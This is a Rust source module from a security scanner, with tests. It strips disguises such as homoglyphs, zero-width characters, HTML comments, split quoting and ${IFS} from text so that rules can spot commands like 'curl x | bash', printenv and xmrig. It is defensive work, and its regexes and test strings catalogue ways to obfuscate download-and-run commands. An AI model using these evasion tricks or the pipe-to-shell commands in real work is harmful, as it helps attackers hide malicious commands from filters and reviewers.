//! The folded view: the text with its disguises taken off.
//!
//! `ｂａｓｈ`, `bаsh` (a Cyrillic а), `ba<zero width>sh`, `ba<!-- -->sh`, `b''ash` and `curl${IFS}x` are read by some machine
//! as what they look like. The folded view spells them plainly, so that the same rules see them, and maps every finding
//! back to the text as it stands. Words that are honestly written in another script stay as they are.

mod comments;
mod disguise;
mod layer;
mod letters;
mod quoting;
mod tables;
mod token;

use std::ops::Range;

use disguise::Disguise::{Comments, Letters, Quoting};
use layer::Layer;

pub(crate) use disguise::{Disguise, Disguises};

/// Byte patterns without which the folded view cannot differ in a way that matters. Written like a shape's pattern.
///
/// They are selective on purpose: most real skills hold some non-ASCII text, and nearly all hold quotes and backslashes.
pub(crate) const TRIGGERS: &[(Disguise, &str)] = &[
    // Full-width and mathematical letters.
    (Letters, r"\xEF\xBC[\xA1-\xBA]|\xEF\xBD[\x81-\x9A]|\xF0\x9D[\x90-\x9F]"),
    // Other forms of letters, digits and signs; those signs that stand in honest texts only between visible ASCII.
    (Letters, r"{letter-form}|{digit-form}|{sign-form}|(?:^|[!-~])[ \t]*{common-sign-form}\s*[!-~]"),
    // Look-alike letters of Greek, Cyrillic, Armenian and the phonetic alphabet beside an ASCII letter or digit.
    (
        Letters,
        r"\w{idle}{0,2}(?:[\xC9\xCA\xCE-\xD6]|\xC4\xB1)|(?:[\xC9\xCA\xCE-\xD6][\x80-\xBF]|\xC4\xB1){idle}{0,2}\w",
    ),
    // Words made of look-alikes only need letters that ordinary Russian, Greek or Armenian text does not hold.
    (
        Letters,
        r"(?:\xD1\x95|\xD2\xBB|\xD4[\x81\x9B\x9D]){idle}{0,2}[\xD0-\xD6]|[\xD0-\xD6][\x80-\xBF]{idle}{0,2}(?:\xD1\x95|\xD2\xBB|\xD4[\x81\x9B\x9D])",
    ),
    // Invisible characters beside visible ASCII. Variation selectors behind anything else, or behind a digit that becomes a
    // key, belong to emoji, unless a letter follows.
    (Letters, r"[!-~]\s*(?:{invisible}|\xEF\xBB\xBF)"),
    (Letters, r"(?:{invisible}|[ \t]\xEF\xBB\xBF)\s*[!-~]"),
    (
        Letters,
        r"[\t-\x22$-)+-/:-~]\xEF\xB8[\x80-\x8F]|[0-9#*]\xEF\xB8(?:[\x80-\x8E]|\x8F[^\xE2])|\xEF\xB8[\x80-\x8F][A-Za-z]",
    ),
    // Spaces that are not the ASCII space, with no more than such spaces between them and visible ASCII.
    (Letters, r"[!-~][ \t]*{other-space}|[|\\]\s*{other-space}"),
    (Letters, r"{other-space}[ \t]*[!-~]"),
    // Comments behind visible ASCII on the line, or where a command goes on.
    (Comments, r"[!-~][ \t]*<!--|[|\\]\s*<!--"),
    // Idle quoting inside a word of `quoting::WORDS`, at its first place.
    (
        Quoting,
        r"\b(?:b{idle}a|ba{idle}s|bas{idle}[eh]|base{idle}6|base6{idle}4|c{idle}u|cu{idle}r|cur{idle}l|w{idle}g|wg{idle}e|wge{idle}t|e{idle}[vn]|ev{idle}a|eva{idle}l|en{idle}v|s{idle}[ho]|so{idle}c|soc{idle}a|soca{idle}t|[zkd]{idle}[sa]|[zk]s{idle}h|da{idle}s|das{idle}h|p{idle}[yehr]|pr{idle}i|pri{idle}n|prin{idle}t|print{idle}e|printe{idle}n|printen{idle}v|t{idle}c|tc{idle}p|u{idle}d|ud{idle}p|py{idle}t|pyt{idle}h|pyth{idle}o|pytho{idle}n|python{idle}3|pe{idle}r|per{idle}l|ph{idle}p|r{idle}u|ru{idle}b|rub{idle}y|n{idle}[co]|nc{idle}a|nca{idle}t|no{idle}d|nod{idle}e|i{idle}[ew]|ie{idle}x|iw{idle}r|x{idle}m|xm{idle}r|xmr{idle}i|xmri{idle}g)",
    ),
    // The same, quoted more than once at one place.
    (
        Quoting,
        r"\b(?:b{idle}{2,}a|ba{idle}{2,}s|bas{idle}{2,}[eh]|base{idle}{2,}6|base6{idle}{2,}4|c{idle}{2,}u|cu{idle}{2,}r|cur{idle}{2,}l|w{idle}{2,}g|wg{idle}{2,}e|wge{idle}{2,}t|e{idle}{2,}[vn]|ev{idle}{2,}a|eva{idle}{2,}l|en{idle}{2,}v|s{idle}{2,}[ho]|so{idle}{2,}c|soc{idle}{2,}a|soca{idle}{2,}t|[zkd]{idle}{2,}[sa]|[zk]s{idle}{2,}h|da{idle}{2,}s|das{idle}{2,}h|p{idle}{2,}[yehr]|pr{idle}{2,}i|pri{idle}{2,}n|prin{idle}{2,}t|print{idle}{2,}e|printe{idle}{2,}n|printen{idle}{2,}v|t{idle}{2,}c|tc{idle}{2,}p|u{idle}{2,}d|ud{idle}{2,}p|py{idle}{2,}t|pyt{idle}{2,}h|pyth{idle}{2,}o|pytho{idle}{2,}n|python{idle}{2,}3|pe{idle}{2,}r|per{idle}{2,}l|ph{idle}{2,}p|r{idle}{2,}u|ru{idle}{2,}b|rub{idle}{2,}y|n{idle}{2,}[co]|nc{idle}{2,}a|nca{idle}{2,}t|no{idle}{2,}d|nod{idle}{2,}e|i{idle}{2,}[ew]|ie{idle}{2,}x|iw{idle}{2,}r|x{idle}{2,}m|xm{idle}{2,}r|xmr{idle}{2,}i|xmri{idle}{2,}g)",
    ),
    (Quoting, r"\$(?:IFS\b|\{IFS)"),
];

/// Takes one kind of disguise off a text; `None` where there is none.
type Pass = fn(&str) -> Option<Layer>;

/// What takes each kind off.
const PASSES: [(Disguise, Pass); 3] =
    [(Letters, letters::unmask), (Comments, comments::cut), (Quoting, quoting::unquote)];

/// How many passes there are at most: what is under one disguise can be another.
const MOST_PASSES: usize = 9;

/// A text read as it looks, with the way back.
#[derive(Debug, Default)]
pub(crate) struct Folded(Vec<Layer>);

impl Folded {
    pub(crate) fn text(&self) -> &str {
        self.0.last().map_or("", Layer::text)
    }

    /// Returns where a span of the folded text stands in the raw text.
    pub(crate) fn raw_span(&self, span: Range<usize>) -> Range<usize> {
        self.0.iter().rev().fold(span, |span, layer| layer.raw_span(span))
    }
}

/// Returns what disguises the beginning of a text and no trigger tells from the same within it: the mark that files begin with,
/// or what selects a variant of the character before it.
pub(crate) fn at_beginning(text: &str) -> Disguises {
    let mut disguises = Disguises::default();
    if text.starts_with(|first| matches!(first, '\u{FEFF}' | '\u{FE00}'..='\u{FE0F}')) {
        disguises.insert(Letters);
    }
    disguises
}

/// Takes these disguises off a text, and then whatever is under them; `None` if it reads as it stands.
pub(crate) fn fold(text: &str, disguises: Disguises) -> Option<Folded> {
    let (mut folded, mut due) = (Folded::default(), disguises);
    for &(disguise, pass) in PASSES.iter().cycle().take(MOST_PASSES) {
        if due.take(disguise)
            && let Some(layer) = pass(folded.0.last().map_or(text, Layer::text))
        {
            folded.0.push(layer);
            due = Disguises::ALL;
        }
        if due.is_empty() {
            break;
        }
    }
    if folded.0.is_empty() { None } else { Some(folded) }
}

#[cfg(test)]
mod tests {
    use super::tables::{Glyph, glyph};
    use super::*;

    fn folded(text: &str) -> String {
        fold(text, Disguises::ALL).map_or_else(|| text.to_owned(), |folded| folded.text().to_owned())
    }

    #[test]
    fn disguises_are_spelled_plainly() {
        let cases = [
            ("ｃｕｒｌ x ｜ ｂａｓｈ", "curl x | bash"),
            ("𝐜𝐮𝐫𝐥 x | 𝒷𝒶𝓈𝒽", "curl x | bash"),
            ("\u{441}url x | b\u{430}sh", "curl x | bash"),
            ("p\u{200b}rint\u{ad}env", "printenv"),
            ("x |\u{a0}sh", "x | sh"),
            (r"cu\rl x | ba\sh", "curl x | bash"),
            ("c''url x | b\"a\"sh", "curl x | bash"),
            ("'b'ash b'as'h ba$@sh ba${@}sh ba$9sh ba${x}sh", "bash bash bash bash bash bash"),
            ("/bin/b''ash", "/bin/bash"),
            ("ba\\\nsh", "bash"),
            ("curl${IFS}-s$IFS\"x\"", "curl -s \"x\""),
            ("c''u\u{200b}rl 'с'url b＇＇ash ba\\ｓh", "curl curl bash bash"),
            ("e\u{1}n\u{7f}v p\u{e0800}hp", "env php"),
            ("b''ash\u{a0}-c ru''by\u{2028}", "bash -c ruby\n"),
            ("\u{455}\u{4bb}", "sh"),
        ];
        for (raw, plain) in cases {
            assert_eq!(folded(raw), plain, "{raw:?}");
        }
    }

    #[test]
    fn honest_text_stays_as_it_is() {
        let texts = [
            "Обычный русский текст, со словами",
            "café naïve Straße",
            "don't can't",
            r"C:\basic\curly",
            "\"bash\" 'curl'",
            r"a\nb",
            "你好：世界",
            "μs",
            "l'eval",
            "curl \\\n\\\nbash\\\n\\\n",
            "''bash''''",
            "echo \"$PATH\"",
            "IFS=, read a",
            "curl$IFSx $IFS_old",
            "| S'h",
        ];
        for text in texts {
            assert_eq!(folded(text).replace('：', ":"), text.replace('：', ":"));
        }
    }

    #[test]
    fn every_offset_finds_its_way_back() {
        let raw = "é c''url \u{200b}x | b\u{430}sh";
        let folded = fold(raw, Disguises::ALL).unwrap();
        let stands = |word: &str| {
            let at = folded.text().find(word).unwrap();
            raw.get(folded.raw_span(at..at + word.len())).unwrap()
        };
        assert_eq!(stands("curl"), "c''url");
        assert_eq!(stands("| bash"), "| b\u{430}sh");
        assert_eq!(stands("é"), "é");
        assert_eq!(stands(folded.text()), raw);
    }

    /// Every character that is read as a letter, a space or nothing, where it disguises a word of the rules.
    #[test]
    fn every_character_that_folds_pulls_a_trigger() {
        let triggers: Vec<_> =
            TRIGGERS.iter().map(|(_, pattern)| crate::exact::compile(pattern).unwrap()).collect();
        let silent: Vec<_> = ('\u{80}'..=char::MAX)
            .flat_map(disguises)
            .filter(|text| fold(text, Disguises::ALL).is_some() && at_beginning(text).is_empty())
            .filter(|text| !triggers.iter().any(|trigger| trigger.is_match(text)))
            .collect();
        assert!(silent.is_empty(), "{} texts: {silent:?}", silent.len());
    }

    fn disguises(letter: char) -> Vec<String> {
        let plain = match glyph(letter) {
            Glyph::Plain => return Vec::new(),
            Glyph::Invisible => String::new(),
            Glyph::Compatible(plain) => plain.to_string(),
            Glyph::LookAlike(plain) => plain.to_string(),
        };
        let words = quoting::WORDS.iter().flat_map(|word| [word.to_lowercase(), word.to_uppercase()]);
        let texts = words.map(|word| format!("(. .) | {word} - ."));
        let disguise = |text: &str, at| {
            let (before, after) = text.split_at(at);
            before.to_owned() + &after.replacen(&plain, &letter.to_string(), 1)
        };
        texts
            .flat_map(|text| {
                text.match_indices(&plain).map(|(at, _)| disguise(&text, at)).collect::<Vec<_>>()
            })
            .collect()
    }

    #[test]
    fn whatever_folds_pulls_a_trigger() {
        let triggers: Vec<_> =
            TRIGGERS.iter().map(|(_, pattern)| crate::exact::compile(pattern).unwrap()).collect();
        let pulled = |text: &str| triggers.iter().any(|trigger| trigger.is_match(text));
        for &word in quoting::WORDS {
            for split in 1..word.len() {
                let (before, after) = word.split_at(split);
                for idle in [
                    "\\", "''", "\"\"", "\"", "'", "$@", "$1", "${@}", "${_x}", "\\\n", "\"\"\"\"", "\\\n$@",
                    "\u{200b}", "\u{ad}",
                ] {
                    let text = format!("x | {before}{idle}{after}");
                    assert!(pulled(&text), "{text:?}");
                }
            }
        }
        for text in [
            "x ｜ \\\\sh",
            "x ｜\n(sh)",
            "ｂａｓｈ",
            "𝐛ash",
            "b\u{430}sh",
            "\u{455}\u{4bb}",
            "curl${IFS}x",
            "|\u{a0}sh",
            "| \u{a0}sh",
            "| \u{a0} \u{a0}sh",
            "\u{a0} $(curl x.example)",
            "b\u{24d0}sh",
        ] {
            assert!(pulled(text), "{text:?}");
        }
        for text in [
            "Обычный текст",
            "don't",
            "a\\nb",
            "⚠️ **Warning**",
            "你好，世界",
            "👩‍💻 code",
            "x \\\n  -H y",
            "“quoted” — text…",
        ] {
            assert!(!pulled(text), "{text:?}");
        }
    }
}
